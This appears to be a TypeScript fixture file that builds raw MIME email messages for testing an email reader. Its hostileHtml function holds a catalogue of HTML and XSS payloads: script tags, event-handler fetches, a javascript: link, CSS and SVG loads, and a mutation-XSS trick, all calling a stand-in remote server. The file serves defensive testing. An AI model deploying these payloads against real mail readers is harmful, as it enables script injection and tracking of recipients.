// Messages for the reader's tests, written out byte by byte so each test knows exactly what the
// sender attached. Shared by the unit tests (test/reader) and the Chromium test
// (test/browser/reader.test.ts).
import { crc32, deflateSync } from 'node:zlib';

const CRLF = '\r\n';

/** A real, decodable 2x2 PNG (opaque teal). */
export function tinyPng(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(2, 0);
  header.writeUInt32BE(2, 4);
  header[8] = 8;
  header[9] = 6;
  const row = [0, 0x00, 0x80, 0x80, 0xff, 0x00, 0x80, 0x80, 0xff];
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.from([...row, ...row]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Every byte value several times, including CR, LF and NUL: what a careless decoder breaks. */
export function binaryBytes(length = 3000): Buffer {
  const out = Buffer.alloc(length);
  let x = 7;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = i < 256 ? i : x >>> 24;
  }
  return out;
}

/** An iCalendar invitation with CRLF line endings and no final newline (postal-mime rewrites such parts). */
export const CALENDAR = Buffer.from(
  ['BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', 'UID:review@waxseal.test', 'SUMMARY:Budget review', 'END:VEVENT', 'END:VCALENDAR'].join(CRLF),
);

type Headers = [string, string][];

export interface Part {
  headers: Headers;
  body: Buffer | Part[];
  boundary?: string;
}

function base64Lines(bytes: Buffer): Buffer {
  return Buffer.from((bytes.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF));
}

export function leaf(type: string, body: Buffer | string, extra: Headers = []): Part {
  const bytes = typeof body === 'string' ? Buffer.from(body.replace(/\r?\n/g, CRLF), 'utf8') : body;
  const ascii = bytes.every((b) => b < 0x80);
  return {
    headers: [['Content-Type', type], ['Content-Transfer-Encoding', ascii && typeof body === 'string' ? '7bit' : 'base64'], ...extra],
    body: ascii && typeof body === 'string' ? bytes : base64Lines(bytes),
  };
}

export function file(type: string, filename: string, bytes: Buffer, extra: Headers = []): Part {
  // RFC 2231 parameters, so non-ASCII names survive the way current clients write them.
  const param = (name: string) => (/^[\x20-\x7e]*$/.test(filename) ? `${name}="${filename}"` : `${name}*=UTF-8''${encodeURIComponent(filename)}`);
  return { headers: [['Content-Type', `${type}; ${param('name')}`], ['Content-Disposition', `attachment; ${param('filename')}`], ['Content-Transfer-Encoding', 'base64'], ...extra], body: base64Lines(bytes) };
}

export function multipart(subtype: string, parts: Part[]): Part {
  const boundary = `b-${subtype}-${Math.random().toString(36).slice(2)}`;
  return { headers: [['Content-Type', `multipart/${subtype}; boundary="${boundary}"`]], body: parts, boundary };
}

export function serialise(part: Part): Buffer {
  const chunks: Buffer[] = [Buffer.from(part.headers.map(([k, v]) => `${k}: ${v}${CRLF}`).join('') + CRLF)];
  if (Buffer.isBuffer(part.body)) chunks.push(part.body);
  else {
    for (const child of part.body) chunks.push(Buffer.from(`${CRLF}--${part.boundary}${CRLF}`), serialise(child));
    chunks.push(Buffer.from(`${CRLF}--${part.boundary}--${CRLF}`));
  }
  return Buffer.concat(chunks);
}

export interface TopHeaders {
  from?: string;
  to?: string;
  cc?: string;
  subject?: string;
  date?: string;
}

export function message(top: TopHeaders, root: Part): Buffer {
  const headers: Headers = [
    ['From', top.from ?? 'Alice Sender <alice@waxseal.test>'],
    ['To', top.to ?? 'Bob Recipient <bob@example.org>'],
  ];
  if (top.cc) headers.push(['Cc', top.cc]);
  headers.push(['Subject', top.subject ?? 'Test message'], ['Date', top.date ?? 'Tue, 03 Nov 2026 09:15:00 +0100'], ['Message-ID', '<reader-test@waxseal.test>'], ['MIME-Version', '1.0']);
  return serialise({ ...root, headers: [...headers, ...root.headers] });
}

export const PNG = tinyPng();
export const BINARY = binaryBytes();

/** A message with everything a reader must list: binary, non-ASCII name, calendar, forwarded mail. */
export function attachmentsMessage(): { raw: Buffer; files: { filename: string; mimeType: string; bytes: Buffer }[] } {
  const forwarded = message({ subject: 'Original message', from: 'Carol <carol@example.net>' }, leaf('text/plain; charset=utf-8', 'This is the message being forwarded.\n'));
  const files = [
    { filename: 'Prüfbericht – März.pdf', mimeType: 'application/pdf', bytes: BINARY },
    { filename: '報告書.bin', mimeType: 'application/octet-stream', bytes: binaryBytes(70_000) },
    { filename: 'invite.ics', mimeType: 'text/calendar', bytes: CALENDAR },
    { filename: 'Original message.eml', mimeType: 'message/rfc822', bytes: forwarded },
  ];
  const raw = message(
    { subject: 'Reports for review', cc: 'Dana <dana@example.org>' },
    multipart('mixed', [leaf('text/plain; charset=utf-8', 'Three reports attached.\nSee you Tuesday.\n'), ...files.map((f) => file(f.mimeType, f.filename, f.bytes))]),
  );
  return { raw, files };
}

/**
 * HTML that attacks the reader. `remote` is a server that counts requests: anything reaching it
 * before the reader asks for images is a failure, and paths other than /img-* always are.
 */
export function hostileHtml(remote: string): string {
  return `<html><head><meta http-equiv="refresh" content="0;url=${remote}/refresh"><base href="${remote}/base/"><link rel="stylesheet" href="${remote}/link.css">
<style>@import url(${remote}/import.css); body { background: url(${remote}/img-css-bg.png) } .set { background-image: image-set("${remote}/img-css-set.png" 1x) }</style></head>
<body onload="top.name='onload'; fetch('${remote}/onload')">
<p id="greeting">Quarterly results attached.</p>
<script>top.document.title = 'PWNED'; top.name = 'script'; fetch('${remote}/script');</script>
<img src="${remote}/img-tracker.png" alt="tracker" onerror="top.name='onerror'; fetch('${remote}/onerror')">
<img src="//${remote.replace(/^https?:\/\//, '')}/img-protocol-relative.png" alt="relative">
<img srcset="${remote}/img-srcset.png 2x" alt="srcset">
<img src="relative-image.png" alt="relative path">
<div class="set" style="background-image: url('${remote}/img-style.png')">styled</div>
<table background="${remote}/img-table.png"><tr><td onmouseover="fetch('${remote}/mouseover')">cell</td></tr></table>
<a href="javascript:fetch('${remote}/js-link')" id="jslink">click me</a>
<a href="https://example.org/safe" id="safelink">a safe link</a>
<form action="${remote}/form" method="post"><input name="q" value="secret" autofocus onfocus="fetch('${remote}/onfocus')"><button id="submit" formaction="${remote}/formaction">Send</button></form>
<svg><script>fetch('${remote}/svg')</script><image href="${remote}/svg-image.png"/></svg>
<iframe src="${remote}/iframe"></iframe><object data="${remote}/object"></object><embed src="${remote}/embed">
<video poster="${remote}/video-poster.png"><source src="${remote}/video.mp4"></video>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('${remote}/mxss')">
</body></html>`;
}

export function hostileMessage(remote: string): Buffer {
  return message({ subject: 'Results', from: 'Mallory <mallory@example.test>' }, leaf('text/html; charset=utf-8', Buffer.from(hostileHtml(remote)), []));
}
